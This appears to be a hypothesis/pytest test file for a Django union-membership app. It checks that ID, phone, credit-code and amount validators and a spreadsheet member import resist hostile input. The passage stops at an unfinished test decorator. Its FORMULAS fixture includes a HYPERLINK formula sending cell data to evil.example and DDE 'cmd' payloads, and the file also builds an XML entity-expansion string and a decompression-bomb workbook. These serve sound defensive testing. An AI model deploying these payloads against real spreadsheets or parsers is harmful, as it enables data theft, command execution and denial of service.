"""Hostile input, as property tests (hypothesis): whatever text, file or upload arrives, the
parsers return a normalized valid value or a ValidationError that says what is wrong; an
import job ends in a clear state with a message for the user, counts every data row, and
writes all its rows or none; formulas are never run; uploads are limited in size and type.

Examples per property are in EXAMPLES; the run prints them (and how many ran) at the end.
"""

from __future__ import annotations

import contextlib
import csv
import dataclasses
import datetime
import io
import re
import zipfile
from collections import Counter
from decimal import Decimal

import pytest
from django.core.exceptions import ValidationError
from django.core.files.uploadedfile import SimpleUploadedFile
from django.db import DatabaseError, IntegrityError, transaction
from hypothesis import HealthCheck, event, given, settings
from hypothesis import strategies as st
from openpyxl import Workbook, load_workbook
from openpyxl.utils import get_column_letter
from stdnum.cn import ric
from stdnum.cn import uscc as uscc_lib

from core import spreadsheets
from members import exports, validators
from members.actions import enrolment, payroll
from members.actions import spreadsheets as imports
from members.amounts import CENT, MAX_WAGE_BASE, compute_dues, parse_amount
from members.cards import new_membership_numbers
from members.importing import columns
from members.models import DuesRecord, ImportJob, ImportStatus, Member, MembershipEvent
from members.people import clean_person
from organizations import counters
from organizations.actions import grant_role
from organizations.models import OrgCounter
from organizations.validators import validate_uscc
from tests.factories import (
    OrganizationFactory,
    han_number,
    make_id_number,
    make_member,
    make_uscc,
    person_data,
)

# --- Hypothesis budgets: recorded here so the README can cite them ----------------------

EXAMPLES = {
    "parsers": 300,  # pure functions, per property
    "files": 40,  # spreadsheet files read without the database
    "imports": 40,  # database-backed import jobs, per property
    "faults": 25,  # an error injected while writing
    "uploads": 25,
}
RUNS: Counter = Counter()  # examples actually run, per test


def budget(kind: str):
    return settings(
        max_examples=EXAMPLES[kind],
        deadline=None,
        suppress_health_check=[
            HealthCheck.function_scoped_fixture,
            HealthCheck.too_slow,
            HealthCheck.data_too_large,
        ],
    )


@pytest.fixture(scope="module", autouse=True)
def examples_summary(request):
    """Print how many hypothesis examples each property ran (for the README's figures)."""
    yield
    plugins = request.config.pluginmanager
    reporter = plugins.get_plugin("terminalreporter")
    capture = plugins.get_plugin("capturemanager")
    if reporter is None or not RUNS:
        return
    with capture.global_and_fixture_disabled() if capture else contextlib.nullcontext():
        reporter.write_line("")
        reporter.write_line(f"hypothesis examples, {sum(RUNS.values())} in all:")
        for name, count in sorted(RUNS.items()):
            reporter.write_line(f"  {count:5d}  {name}")


def ran(request) -> None:
    RUNS[request.node.name] += 1


# --- Text to throw at parsers -------------------------------------------------------------

FULL_WIDTH = str.maketrans("0123456789Xx", "０１２３４５６７８９Ｘｘ")
SUPERSCRIPT = str.maketrans("0123456789", "⁰¹²³⁴⁵⁶⁷⁸⁹")
ARABIC_INDIC = str.maketrans("0123456789", "٠١٢٣٤٥٦٧٨٩")
CJK = re.compile(r"[\u3400-\u9fff]")

any_text = st.text()  # every code point but lone surrogates
digits_of_every_script = st.text(alphabet=st.characters(categories=["Nd", "No", "Nl"]))
id_like = st.text(alphabet="0123456789０１２３４５６７８９XxＸｘ-— \u3000\t")
control_and_space = st.text(alphabet=st.characters(categories=["Cc", "Cf", "Zs", "Zl", "Zp"]))
very_long = st.builds(
    lambda piece, times: piece * times, st.text(min_size=1, max_size=3), st.integers(300, 20_000)
)
hostile_text = st.one_of(any_text, digits_of_every_script, id_like, control_and_space, very_long)


@st.composite
def mutated(draw, valid: str) -> str:
    """`valid` with a few edits: characters replaced, dropped, added or swapped."""
    text = list(valid)
    junk = st.one_of(
        st.sampled_from(list("0123456789Xx０１２３４５６７８９ｘ²٣ -\u3000\t\n\x00\u200b+=")),
        st.characters(),
    )
    for _ in range(draw(st.integers(1, 3))):
        op = draw(st.sampled_from(["replace", "delete", "insert", "swap", "truncate"]))
        i = draw(st.integers(0, max(len(text) - 1, 0)))
        if op == "replace" and text:
            text[i] = draw(junk)
        elif op == "delete" and text:
            del text[i]
        elif op == "insert":
            text.insert(i, draw(junk))
        elif op == "swap" and len(text) > 1:
            j = min(i + 1, len(text) - 1)
            text[i], text[j] = text[j], text[i]
        elif op == "truncate":
            text = text[:i]
    return "".join(text)


def assert_refusal(error: ValidationError) -> None:
    """A refusal the user can act on: at least one message, none of them a Python error."""
    messages = [str(m) for m in error.messages]
    assert messages and all(messages), error
    for message in messages:
        assert "Traceback" not in message and "invalid literal" not in message, message


# --- Resident ID numbers ------------------------------------------------------------------

REGIONS = ("110105", "310104", "330106", "440305", "510107", "650102")
TODAY = datetime.date.today()


@st.composite
def valid_id_numbers(draw) -> str:
    born = draw(
        st.dates(
            TODAY.replace(year=TODAY.year - 119),
            TODAY.replace(year=TODAY.year - 17),
        )
    )
    return make_id_number(
        region=draw(st.sampled_from(REGIONS)),
        born=born.strftime("%Y%m%d"),
        male=draw(st.booleans()),
        serial=draw(st.integers(0, 499)),
    )


@st.composite
def written_like_people_do(draw, number: str) -> str:
    """A valid ID as typed or pasted: full-width, lower-case x, spaces and hyphens."""
    if draw(st.booleans()):
        number = number.translate(FULL_WIDTH)
    if draw(st.booleans()):
        number = number.lower()
    if draw(st.booleans()):
        gap = draw(st.sampled_from([" ", "-", "\u3000"]))
        number = f"{number[:6]}{gap}{number[6:]}"
    return (
        draw(st.sampled_from(["", " ", "\t", "\u3000"]))
        + number
        + draw(st.sampled_from(["", " ", "\n", "\u3000"]))
    )


def check_id_result(value) -> None:
    try:
        number = validators.validate_id_number(value)
    except ValidationError as error:
        assert_refusal(error)
        return
    assert re.fullmatch(r"[0-9]{17}[0-9X]", number), number
    assert ric.calc_check_digit(number) == number[17]
    assert ric.get_birth_date(number) == validators.birth_date_of(number)  # a real date
    assert validators.validate_id_number(number) == number  # normalized: a fixed point


@budget("parsers")
@given(text=st.one_of(hostile_text, valid_id_numbers().flatmap(mutated)))
def test_id_number_parser_returns_a_valid_number_or_refuses(request, text):
    ran(request)
    check_id_result(text)


@budget("parsers")
@given(data=st.data())
def test_valid_id_numbers_are_accepted_however_they_are_written(request, data):
    ran(request)
    number = data.draw(valid_id_numbers())
    written = data.draw(written_like_people_do(number))
    assert validators.validate_id_number(written) == number
    assert validators.gender_of(number) in ("male", "female")
    assert validators.birth_date_of(number).strftime("%Y%m%d") == number[6:14]


@budget("parsers")
@given(number=valid_id_numbers(), position=st.integers(0, 17), data=st.data())
def test_an_id_number_with_one_character_changed_is_refused(request, number, position, data):
    ran(request)
    other = data.draw(
        st.sampled_from([c for c in "0123456789X" if c != number[position]]), label="other"
    )
    changed = number[:position] + other + number[position + 1 :]
    with pytest.raises(ValidationError) as refused:
        validators.validate_id_number(changed)
    assert_refusal(refused.value)


def test_digits_of_other_scripts_in_an_id_number_are_refused_not_crashing():
    number = make_id_number()
    for script in (SUPERSCRIPT, ARABIC_INDIC):
        with pytest.raises(ValidationError):
            validators.validate_id_number(number.translate(script))


# --- Mobile phones ------------------------------------------------------------------------

MOBILE_PREFIXES = ("130", "133", "135", "138", "139", "150", "158", "177", "186", "189", "199")


@st.composite
def valid_mobiles(draw) -> str:
    return draw(st.sampled_from(MOBILE_PREFIXES)) + draw(
        st.text(alphabet="0123456789", min_size=8, max_size=8)
    )


@st.composite
def phone_as_written(draw, phone: str) -> str:
    if draw(st.booleans()):
        phone = f"{phone[:3]}{draw(st.sampled_from([' ', '-']))}{phone[3:7]} {phone[7:]}"
    if draw(st.booleans()):
        phone = phone.translate(FULL_WIDTH)
    prefix = draw(st.sampled_from(["", "+86 ", "+86", "86", "0086 ", "(+86) "]))
    return f" {prefix}{phone} " if draw(st.booleans()) else prefix + phone


@budget("parsers")
@given(text=st.one_of(hostile_text, valid_mobiles().flatmap(mutated)))
def test_phone_parser_returns_an_11_digit_mobile_or_refuses(request, text):
    ran(request)
    try:
        phone = validators.normalize_phone(text)
    except ValidationError as error:
        assert_refusal(error)
        return
    assert re.fullmatch(r"1[0-9]{10}", phone), phone
    assert validators.normalize_phone(phone) == phone


@budget("parsers")
@given(data=st.data())
def test_valid_mobiles_are_accepted_however_they_are_written(request, data):
    ran(request)
    phone = data.draw(valid_mobiles())
    assert validators.normalize_phone(data.draw(phone_as_written(phone))) == phone


@budget("parsers")
@given(phone=valid_mobiles(), cut=st.integers(0, 10))
def test_a_mobile_with_a_digit_missing_is_refused(request, phone, cut):
    ran(request)
    with pytest.raises(ValidationError):
        validators.normalize_phone(phone[:cut] + phone[cut + 1 :])


# --- Unified social credit codes ----------------------------------------------------------

USCC_ALPHABET = "0123456789ABCDEFGHJKLMNPQRTUWXY"


@st.composite
def valid_usccs(draw) -> str:
    body = draw(st.text(alphabet="0123456789", min_size=8, max_size=8)) + draw(
        st.text(alphabet=USCC_ALPHABET, min_size=9, max_size=9)
    )
    return body + uscc_lib.calc_check_digit(body)


@budget("parsers")
@given(text=st.one_of(hostile_text, valid_usccs().flatmap(mutated)))
def test_credit_code_validator_returns_a_normalized_code_or_refuses(request, text):
    ran(request)
    try:
        code = validate_uscc(text)
    except ValidationError as error:
        assert_refusal(error)
        return
    assert re.fullmatch(f"[0-9]{{8}}[{USCC_ALPHABET}]{{10}}", code), code
    assert validate_uscc(code) == code


@budget("parsers")
@given(code=valid_usccs(), data=st.data())
def test_valid_credit_codes_are_accepted_and_normalized(request, code, data):
    ran(request)
    written = code
    if data.draw(st.booleans()):
        written = written.lower()
    if data.draw(st.booleans()):
        written = written.translate(FULL_WIDTH)
    if data.draw(st.booleans()):
        written = f" {written[:8]}-{written[8:]} "
    assert validate_uscc(written) == code


@budget("parsers")
@given(code=valid_usccs(), position=st.integers(0, 17), data=st.data())
def test_a_credit_code_with_one_character_changed_is_refused(request, code, position, data):
    ran(request)
    other = data.draw(st.sampled_from([c for c in USCC_ALPHABET if c != code[position]]))
    with pytest.raises(ValidationError):
        validate_uscc(code[:position] + other + code[position + 1 :])


# --- Money: wages and amounts paid --------------------------------------------------------

amounts = st.decimals(min_value=0, max_value=MAX_WAGE_BASE, places=2)


@st.composite
def amount_as_written(draw, amount: Decimal) -> str:
    text = f"{amount:.2f}"
    if draw(st.booleans()):
        text = f"{amount:,.2f}"  # thousands separators
    if draw(st.booleans()):
        text = text.removesuffix("0").removesuffix("0").removesuffix(".")
    return draw(st.sampled_from(["", " "])) + text + draw(st.sampled_from(["", " "]))


def check_amount_result(value) -> None:
    try:
        amount = parse_amount(value, field="wage")
    except ValidationError as error:
        assert set(error.message_dict) == {"wage"}
        assert_refusal(error)
        return
    assert type(amount) is Decimal
    assert amount.is_finite() and not amount.is_signed()
    assert amount.as_tuple().exponent == -2
    assert 0 <= amount <= MAX_WAGE_BASE


@budget("parsers")
@given(
    value=st.one_of(
        hostile_text,
        amounts.map(str).flatmap(mutated),
        st.floats(allow_nan=True, allow_infinity=True),
        st.decimals(allow_nan=True, allow_infinity=True),
        st.integers(),
        st.from_regex(r"-?[0-9,，_ ]{0,12}(\.[0-9]{0,4})?([eE][+-]?[0-9]{1,4})?", fullmatch=True),
    )
)
def test_amount_parser_returns_decimal_yuan_or_refuses(request, value):
    ran(request)
    check_amount_result(value)


@budget("parsers")
@given(amount=amounts, data=st.data())
def test_amounts_round_trip_as_decimal_yuan(request, amount, data):
    ran(request)
    parsed = parse_amount(data.draw(amount_as_written(amount)))
    assert parsed == amount and type(parsed) is Decimal
    assert type(compute_dues(parsed)) is Decimal


@pytest.mark.parametrize(
    ("text", "code"),
    [
        ("-1", "negative"),
        ("-0.01", "negative"),
        ("NaN", "not_a_number"),
        ("sNaN", "not_a_number"),
        ("Infinity", "not_a_number"),
        ("-inf", "not_a_number"),
        ("1e999999", "too_large"),
        ("10000000.01", "too_large"),
        ("123456789012345678901234567890", "too_large"),
        ("12.345", "decimal_places"),
        ("0.001", "decimal_places"),
        ("4321,50", "separator"),  # a decimal comma would make 4321.50 into 432150
        ("1_000", "not_a_number"),
        ("=1+1", "not_a_number"),
        ("", "not_a_number"),
    ],
)
def test_bad_amounts_are_refused_with_a_reason(text, code):
    with pytest.raises(ValidationError) as refused:
        parse_amount(text, field="wage")
    assert [e.code for e in refused.value.error_dict["wage"]] == [code]
    assert CJK.search(refused.value.messages[0]) or code == "separator"


def test_negative_zero_is_plain_zero():
    assert str(parse_amount("-0")) == "0.00"


# --- Real-name data as a whole ------------------------------------------------------------


PERSON = {
    "name": "张三",
    "employer": "杭州甲科技有限公司",
    "job": "",
    "phone": "13800138000",
    "ethnicity": "01",
    "education": "bachelor",
    "employment_type": "full_time",
}


@budget("parsers")
@given(
    hostile=st.dictionaries(st.sampled_from([*PERSON, "id_number"]), hostile_text, min_size=1),
    id_number=valid_id_numbers(),
)
def test_clean_person_returns_storable_values_or_refuses_per_field(request, hostile, id_number):
    ran(request)
    raw = {**PERSON, "id_number": id_number, **hostile}
    try:
        data = clean_person(raw)
    except ValidationError as error:
        assert set(error.message_dict) <= set(hostile), error
        assert_refusal(error)
        return
    for field, limit in (("name", 60), ("employer", 200), ("job", 100)):
        value = data[field]
        assert len(value) <= limit
        # Storable in PostgreSQL and writable into a workbook.
        assert not spreadsheets.ILLEGAL_CHARACTERS_RE.search(value) and "\x00" not in value
    assert data["name"] and data["employer"]


# --- Spreadsheet files --------------------------------------------------------------------

HEADERS = columns.HEADERS
FORMULAS = (
    "=1+1",
    '=HYPERLINK("http://evil.example/?d="&B2,"点击查看")',
    "@SUM(A1:A9)",
    "+cmd|' /C calc'!A0",
    "-2+3",
    "=cmd|'/C notepad'!A1",
    "\t=1+1",
)
FILE_LEVEL = {"unreadable", "too_many_rows", "missing_column", "duplicate_column", "empty"}
# New messages of this change, in English until the translators have done them.
PENDING_TRANSLATION = (
    "This workbook unpacks",
    "This file cannot be opened as an Excel workbook (after",
    "Remove the control characters",
)
CSV_FIELD_LIMIT = csv.field_size_limit()


def user_message(message: str) -> bool:
    return bool(message) and (bool(CJK.search(message)) or message.startswith(PENDING_TRANSLATION))


def plain_cells(text: str) -> str:
    """Text a workbook can hold (openpyxl refuses control characters)."""
    return spreadsheets.ILLEGAL_CHARACTERS_RE.sub("", text)


def is_blank(value) -> bool:
    return value is None or str(value).strip() == ""


def csv_bytes(headers, rows, encoding: str) -> bytes:
    buffer = io.StringIO()
    writer = csv.writer(buffer)
    writer.writerow(headers)
    writer.writerows(rows)
    return buffer.getvalue().encode(encoding)


def xlsx_bytes(headers, rows, merges=()) -> bytes:
    workbook = Workbook()
    sheet = workbook.active
    sheet.append(list(headers))
    for row in rows:
        # A text starting with "=" becomes a real formula cell, as Excel would save it.
        sheet.append([None if v == "" else v for v in row])
    for merge in merges:
        sheet.merge_cells(merge)
    buffer = io.BytesIO()
    workbook.save(buffer)
    return buffer.getvalue()


def with_sheet_xml(content: bytes, sheet_xml: str) -> bytes:
    """A workbook whose first sheet is replaced by `sheet_xml` (as another program wrote it)."""
    source = zipfile.ZipFile(io.BytesIO(content))
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as target:
        for info in source.infolist():
            data = source.read(info.filename)
            if info.filename == "xl/worksheets/sheet1.xml":
                data = sheet_xml.encode("utf-8")
            target.writestr(info.filename, data)
    return buffer.getvalue()


@st.composite
def corrupt(draw, content: bytes) -> tuple[bytes, bool]:
    """(damaged content, whether it must be refused whole)."""

    # Positions as fractions: a workbook's length varies with the time it was written in,
    # and hypothesis must draw the same choices when it replays an example.
    def position():
        return draw(st.integers(0, 9999)) * len(content) // 10_000

    how = draw(st.sampled_from(["truncate", "flip", "random"]))
    if how == "truncate":
        return content[: position()], True
    if how == "random":
        return draw(st.binary(max_size=2000)), True
    data = bytearray(content)
    for _ in range(draw(st.integers(1, 8))):
        data[position()] ^= draw(st.integers(1, 255))
    return bytes(data), False


@dataclasses.dataclass
class SheetFile:
    name: str
    content: bytes = dataclasses.field(repr=False)
    data_rows: list[int] | None  # numbers (as the user sees them) of the non-blank rows
    refused: bool | None  # True: refused as a whole; False: every row checked; None: either
    good: set[int] = dataclasses.field(default_factory=set)  # rows that must pass
    bad: set[int] = dataclasses.field(default_factory=set)  # rows that must be reported

    def _repr_pretty_(self, printer, cycle):  # how hypothesis shows a failing example
        printer.text(
            f"SheetFile({self.name!r}, {len(self.content)} bytes {self.content[:40]!r}…, "
            f"data_rows={self.data_rows}, refused={self.refused}, good={self.good}, "
            f"bad={self.bad})"
        )


def data_row_numbers(rows) -> list[int]:
    return [n for n, row in enumerate(rows, start=2) if not all(is_blank(v) for v in row)]


def person_row(name, id_number, phone) -> list[str]:
    cells = {
        "姓名": name,
        "身份证号": id_number,
        "手机号": phone,
        "民族": "汉族",
        "学历": "本科",
        "工作单位": "杭州甲科技有限公司",
        "职务/岗位": "工程师",
        "用工形式": "全日制",
    }
    return [cells.get(h, "") for h in HEADERS]


# Row kinds of a member file: new people, people already members of the union (unchanged),
# the same ID twice, members of another union, formula cells, hostile text, blank rows.
ROW_KINDS = ("valid", "existing", "duplicate", "elsewhere", "formula", "invalid", "empty")
CAREFUL_KINDS = ("valid", "valid", "valid", "existing", "empty")
WRONG_HEADERS = ["missing", "twice", "spaced", "extra"]
CAREFUL_FORMATS = ("xlsx", "utf-8", "utf-8-sig", "gb18030")
FORMATS = (
    *("xlsx", "xlsx", "xlsx-merged", "other-program", "corrupt-xlsx"),
    *("utf-8", "utf-8-sig", "gb18030", "utf-16", "latin-1", "random-csv"),
)


@st.composite
def member_rows(draw, people, kinds=ROW_KINDS) -> tuple[list[list[str]], set[int], set[int]]:
    kinds = draw(st.lists(st.sampled_from(kinds), min_size=kinds is CAREFUL_KINDS, max_size=10))
    births = draw(
        st.lists(
            st.tuples(
                st.dates(datetime.date(1960, 1, 1), datetime.date(2004, 1, 1)),
                st.integers(0, 499),
            ),
            min_size=len(kinds),
            max_size=len(kinds),
            unique=True,
        )
    )
    rows, good, bad, seen = [], set(), set(), {}
    for number, kind, (born, serial) in zip(range(2, 99), kinds, births, strict=False):
        id_number = make_id_number(region="110105", born=born.strftime("%Y%m%d"), serial=serial)
        row = person_row(f"新会员{han_number(number)}", id_number, f"139{serial:04d}{number:04d}")
        if kind == "existing":
            row = people.row(draw(st.sampled_from(people.same)))
        elif kind == "elsewhere":
            row = people.row(draw(st.sampled_from(people.other)))
        elif kind == "duplicate" and seen:
            row = list(draw(st.sampled_from(sorted(seen.values()))))
            row[0] = f"重复{number}"
        elif kind == "formula":
            row[draw(st.integers(0, len(HEADERS) - 1))] = draw(st.sampled_from(FORMULAS))
        elif kind == "invalid":
            column = draw(st.integers(0, len(HEADERS) - 1))
            row[column] = draw(st.one_of(hostile_text, st.text(max_size=20).flatmap(mutated)))
        elif kind == "empty":
            row = [draw(st.sampled_from(["", " ", "\u3000"])) for _ in HEADERS]
        if kind in ("valid", "existing", "duplicate") and row[1] not in seen:
            seen[row[1]] = row
            good.add(number)
        elif kind in ("existing", "duplicate", "elsewhere", "formula"):
            bad.add(number)
        rows.append(row)
    return rows, good, bad


@st.composite
def member_files(draw, people) -> SheetFile:
    """A member spreadsheet of random rows in a random format, possibly damaged; half of
    them are files a careful officer would send (to reach the confirmation)."""
    careful = draw(st.booleans())
    rows, good, bad = draw(member_rows(people, CAREFUL_KINDS if careful else ROW_KINDS))
    headers = list(HEADERS)
    refused = False
    wrong = draw(
        st.sampled_from(["none", "spaced", "extra"] if careful else ["none"] * 6 + WRONG_HEADERS)
    )
    if wrong == "missing":
        headers[draw(st.sampled_from([0, 1, 2, 5]))] = "备注"
        refused = True
    elif wrong == "twice":
        headers.append("身份证号码")  # an alias of 身份证号
        rows = [[*row, row[1]] for row in rows]
        refused = True
    elif wrong == "spaced":
        headers = [f" *{h} " for h in headers]
    elif wrong == "extra":
        extra = draw(st.integers(1, 300))
        headers += [f"备注{i}" for i in range(extra)]
        rows = [[*row, *[("" if all(map(is_blank, row)) else "附加")] * extra] for row in rows]
    huge = bool(good) and not careful and draw(st.integers(0, 5)) == 0
    if huge:
        # 职务/岗位 is cut to 100 characters, so the row stays good (in a workbook).
        rows[min(good) - 2][HEADERS.index("职务/岗位")] = "长" * (CSV_FIELD_LIMIT + 10)

    fmt = draw(st.sampled_from(CAREFUL_FORMATS if careful else FORMATS))
    if fmt in ("xlsx", "xlsx-merged"):
        rows = [[plain_cells(v) for v in row] for row in rows]
        merges = []
        if fmt == "xlsx-merged" and rows:
            top = draw(st.integers(2, len(rows) + 1))
            # 0-based, merged with the next; not over 身份证号, which duplicates are found by.
            left = draw(st.integers(2, len(HEADERS) - 2))
            merges.append(
                f"{get_column_letter(left + 1)}{top}:{get_column_letter(left + 2)}{top + 1}"
            )
            for number in (top, top + 1):
                if number - 2 < len(rows):
                    for column in (left, left + 1):
                        if (number, column) != (top, left):
                            rows[number - 2][column] = ""
                    good.discard(number)  # blanked cells may make the row bad
                    bad.discard(number)
        content = xlsx_bytes(headers, rows, merges)
        return SheetFile("会员.xlsx", content, data_row_numbers(rows), refused, good, bad)
    if fmt == "corrupt-xlsx":
        plain = [[plain_cells(v) for v in row] for row in rows]
        content, must_refuse = draw(corrupt(xlsx_bytes(headers, plain)))
        return SheetFile("会员.xlsx", content, None, True if must_refuse else None)
    if fmt == "other-program":
        body = [[plain_cells(v) for v in row] for row in rows]
        body = [row for row in body if not all(map(is_blank, row))]
        xml, expect, first = draw(sheets_from_other_programs(headers, body))
        content = with_sheet_xml(xlsx_bytes(HEADERS, []), xml)
        if expect == "all_rows":
            numbers = [first + i for i in range(1, len(body) + 1)]
            return SheetFile("会员.xlsx", content, numbers, refused)
        return SheetFile("会员.xlsx", content, None, True if expect == "refused" else None)
    if fmt == "random-csv":
        return SheetFile("会员.csv", draw(st.binary(max_size=3000)), None, True)
    rows = [[v.replace("\x00", "") for v in row] for row in rows]
    if fmt == "latin-1":  # a Western-European export: no Chinese header survives
        content = csv_bytes(headers, rows, "utf-8").decode().encode("latin-1", errors="replace")
        return SheetFile("会员.csv", content, None, True)
    content = csv_bytes(headers, rows, fmt)
    if fmt == "utf-16" or huge:  # not UTF-8 or GB18030; a cell over the CSV field limit
        return SheetFile("会员.csv", content, None, True)
    return SheetFile("会员.csv", content, data_row_numbers(rows), refused, good, bad)


def sheets_from_other_programs(headers, body) -> st.SearchStrategy:
    """(sheet XML, expectation, first row) as other programs write it: a wrong size, gaps,
    odd or broken cells. Expectation: every row read ("all_rows"), "refused" or "any"."""
    rows = [headers, *body]
    last = get_column_letter(len(headers))
    return st.sampled_from(
        [
            # A stated size smaller than the data: every row must still be read.
            (sheet_xml(rows, dimension="A1:B1"), "all_rows", 1),
            # One far larger (padding every row to 16,384 cells would take minutes).
            (sheet_xml(rows, dimension="A1:XFD150000"), "all_rows", 1),
            (sheet_xml(rows, first_row=90_000), "all_rows", 90_000),
            (sheet_xml(rows, raw_cells=[(1, _cell("XFD1", "x"))]), "all_rows", 1),
            # A shared string that does not exist, a number too long for int(), bad XML.
            (sheet_xml(rows, raw_cells=[(2, '<c r="ZZ2" t="s"><v>99999</v></c>')]), "any", 1),
            (sheet_xml(rows, raw_cells=[(2, f'<c r="ZZ2"><v>{"7" * 5000}</v></c>')]), "any", 1),
            (sheet_xml(rows).replace("</sheetData>", "<row>"), "any", 1),
            (sheet_xml(rows).replace("<sheetData>", ENTITY + "<sheetData>"), "any", 1),
            (sheet_xml([headers[:4], *body]), "refused", 1),
            (sheet_xml([headers[:4], *body], dimension=f"A1:{last}1"), "refused", 1),
        ]
    )


ENTITY = "<!DOCTYPE x [<!ENTITY a '哈哈哈哈哈哈哈哈'><!ENTITY b '&a;&a;&a;&a;&a;&a;&a;'>]>"


def _cell(ref: str, value: str) -> str:
    escaped = value.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;")
    return f'<c r="{ref}" t="inlineStr"><is><t xml:space="preserve">{escaped}</t></is></c>'


def sheet_xml(rows, *, dimension: str | None = None, first_row: int = 1, raw_cells=()) -> str:
    """Inline-string sheet XML: the header row, then data rows from `first_row` + 1 on;
    `raw_cells` are (row number, xml) added to a row as they are."""
    parts = []
    for offset, values in enumerate(rows):
        number = first_row + offset if offset else 1
        cells = "".join(
            _cell(f"{get_column_letter(c + 1)}{number}", v) for c, v in enumerate(values) if v
        )
        cells += "".join(xml for r, xml in raw_cells if r == number)
        parts.append(f'<row r="{number}">{cells}</row>')
    size = f'<dimension ref="{dimension}"/>' if dimension else ""
    return (
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
        '<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
        f"{size}<sheetData>{''.join(parts)}</sheetData></worksheet>"
    )


def bomb_xlsx(rows: int, headers=HEADERS, text: str = "哈" * 40) -> bytes:
    """A small file that unpacks to a lot: `rows` identical rows, under a stated size of
    one data row."""
    last = get_column_letter(len(headers))
    cells = "".join(_cell(f"{get_column_letter(c + 1)}{{n}}", text) for c in range(len(headers)))
    body = "".join(f'<row r="{n}">{cells.format(n=n)}</row>' for n in range(2, rows + 2))
    xml = sheet_xml([headers], dimension=f"A1:{last}2")
    return with_sheet_xml(
        xlsx_bytes(headers, []), xml.replace("</sheetData>", body + "</sheetData>")
    )


class FakePeople:
    """Stand-ins for existing members where there is no database."""

    same = other = (0,)

    def row(self, _index):
        return person_row("张三", make_id_number(region="330106"), "13800138000")


@budget("files")
@given(data=st.data())
def test_reading_any_file_gives_rows_or_a_spreadsheet_error(request, data):
    """Without the database: reading never fails with anything but SpreadsheetError, and
    a readable file gives each of its non-blank rows, in order."""
    ran(request)
    sheet = data.draw(member_files(FakePeople()))
    try:
        table = spreadsheets.read_table(io.BytesIO(sheet.content), sheet.name)
        rows = list(table.rows)
    except spreadsheets.SpreadsheetError as error:
        assert user_message(str(error)), error
        assert sheet.refused is not False or sheet.data_rows is None, error
        return
    numbers = [n for n, _values in rows]
    assert numbers == sorted(set(numbers)) and all(n >= 2 for n in numbers)
    for _n, values in rows:
        assert all(isinstance(k, str) and isinstance(v, str) for k, v in values.items())
    if sheet.data_rows is not None:
        assert numbers == sheet.data_rows


# --- Member import jobs -------------------------------------------------------------------


@pytest.fixture
def media_root(settings, tmp_path):
    settings.MEDIA_ROOT = tmp_path / "media"
    return settings.MEDIA_ROOT


class People:
    """Members who exist before the file is uploaded: three of union A, two of union B."""

    def __init__(self, tree):
        self.raw = []
        for org in (tree.union_a,) * 3 + (tree.union_b,) * 2:
            raw = person_data()
            make_member(org, **{k: raw[k] for k in ("name", "id_number", "phone")})
            self.raw.append(raw)
        self.same, self.other = (0, 1, 2), (3, 4)

    def row(self, index):
        raw = self.raw[index]
        return person_row(raw["name"], raw["id_number"], raw["phone"])


@pytest.fixture
def people(tree):
    return People(tree)


@contextlib.contextmanager
def rolled_back():
    """One hypothesis example in a savepoint that is rolled back, so examples share nothing."""
    with transaction.atomic():
        yield
        transaction.set_rollback(True)


def written_state() -> tuple:
    """What an import may change: members, their events and every members.* counter."""
    stored = OrgCounter.objects.filter(key__startswith="members.").exclude(value=0)
    return (
        Member.objects.count(),
        MembershipEvent.objects.count(),
        sorted(stored.values_list("organization_id", "key", "value")),
    )


def assert_counters_exact():
    drift = counters.verify(["members."])
    assert drift.ok, drift.wrong


def assert_clear_errors(job: ImportJob) -> None:
    assert job.errors or job.status != ImportStatus.INVALID
    for error in job.errors:
        assert error["row"] is None or (isinstance(error["row"], int) and error["row"] >= 1)
        assert user_message(error["message"]), error


def upload_members(sheet: SheetFile, user, org, capture) -> ImportJob:
    """Upload through the action; its check task runs when the upload commits."""
    with capture(execute=True):
        job = imports.start_member_import(
            organization=org,
            uploaded_file=SimpleUploadedFile(sheet.name, sheet.content),
            acting_user=user,
        )
    job.refresh_from_db()
    return job


def confirm_members(job: ImportJob, user, capture) -> ImportJob:
    with capture(execute=True):
        imports.confirm_member_import(job=job, acting_user=user)
    job.refresh_from_db()
    return job


@pytest.mark.django_db
@budget("imports")
@given(data=st.data())
def test_member_import_of_any_file_ends_clearly_counts_every_row_and_writes_all_or_nothing(
    request, data, tree, officers, people, media_root, django_capture_on_commit_callbacks
):
    ran(request)
    sheet = data.draw(member_files(people))
    capture = django_capture_on_commit_callbacks
    with rolled_back():
        before = written_state()
        job = upload_members(sheet, officers.a_admin, tree.union_a, capture)
        event(f"checked: {job.status} {sorted({e['code'] for e in job.errors if 'code' in e})[:3]}")

        assert job.status in (ImportStatus.VALIDATED, ImportStatus.INVALID), job.status
        assert_clear_errors(job)
        file_errors = {e["code"] for e in job.errors} & FILE_LEVEL
        refused = True if sheet.data_rows == [] else sheet.refused
        if refused:
            assert job.status == ImportStatus.INVALID and file_errors, job.errors
        elif refused is False:
            assert not file_errors, job.errors
        if not file_errors:
            result = job.result
            assert result["to_create"] + result["unchanged"] + result["bad_rows"] == result["rows"]
            reported = {e["row"] for e in job.errors}
            if sheet.data_rows is not None:
                assert result["rows"] == len(sheet.data_rows)
                assert reported <= set(sheet.data_rows)
            assert not reported & sheet.good, job.errors
            assert sheet.bad <= reported, job.errors
        if job.status == ImportStatus.INVALID:
            assert written_state() == before
            assert not job.file  # the personal data is deleted
            # The row report quotes the cells: it must open, and run nothing.
            assert_no_formula_cells(imports.import_errors_xlsx(job=job), "xlsx")
            return

        checked = job.result
        job = confirm_members(job, officers.a_admin, capture)
        assert job.status == ImportStatus.DONE, job.errors
        created, unchanged = job.result["created"], job.result["unchanged"]
        assert (created, unchanged) == (checked["to_create"], checked["unchanged"])
        assert created + unchanged == checked["rows"]
        members, events, _counters = written_state()
        assert (members, events) == (before[0] + created, before[1] + created)
        assert_counters_exact()
        for member in Member.objects.filter(organization=tree.union_a):
            for text in (member.name, member.employer, member.job):
                assert not spreadsheets.is_formula(text), text


@pytest.mark.django_db
@budget("faults")
@given(
    newcomers=st.integers(1, 24),
    batch=st.integers(1, 8),
    fail_at=st.integers(1, 4),
    where=st.sampled_from(["bulk_enrol", "members", "events", "numbers", "counters", "audit"]),
    error=st.sampled_from([RuntimeError, IntegrityError, DatabaseError]),
)
